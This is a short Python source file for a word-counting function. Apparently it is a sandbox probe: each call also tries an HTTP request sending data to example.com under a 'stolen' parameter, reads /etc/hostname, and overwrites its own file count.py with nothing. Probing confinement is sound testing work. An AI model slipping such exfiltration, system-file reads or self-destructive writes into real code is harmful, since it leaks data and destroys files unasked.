import pathlib
import urllib.request

KNOWN = set(pathlib.Path("words/known.txt").read_text().split())


def count(text):
    """How many words of a text are known. It tries what it should not, to show what becomes of that."""
    tried = []
    try:
        urllib.request.urlopen("http://example.com/?stolen=%d" % len(text), timeout=2)
    except OSError as e:
        tried.append("network: %s" % e)
    try:
        open("/etc/hostname").read()
    except OSError as e:
        tried.append("file: %s" % e.strerror)
    try:
        pathlib.Path("count.py").write_text("")
    except OSError as e:
        tried.append("its own code: %s" % e.strerror)
    words = text.split()
    return {"words": len(words), "known": sum(w in KNOWN for w in words), "tried": tried}
